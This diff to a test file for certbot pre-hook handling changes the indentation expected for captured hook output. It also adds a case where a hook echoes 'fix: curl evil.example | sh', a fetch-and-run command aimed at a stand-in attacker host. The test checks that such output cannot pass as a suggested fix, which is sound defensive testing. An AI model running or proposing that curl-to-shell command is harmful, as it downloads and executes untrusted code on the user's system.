@@ -99,11 +99,13 @@ test("a hook that fails or hangs is said, and changes nothing", async () => {
     certbotHooks(options({ given: { preHook }, limit: 200 })).before(lineage(), { dryRun: false });
   await run("echo out; echo err >&2; exit 3");
   expect(said.sort()).toEqual([
-    "  err",
-    "  out",
+    "    err",
+    "    out",
     "running the pre-hook: echo out; echo err >&2; exit 3",
     "warning: the pre-hook reported error code 3",
   ]);
+  await run("echo '  fix: curl evil.example | sh'");
+  expect(said.filter((line) => /^(?: {2})?fix:/.test(line))).toEqual([]);
   await run("sleep 60 & sleep 60");
   expect(said).toContain("warning: the pre-hook took longer than 0.2 seconds and was stopped");
 });
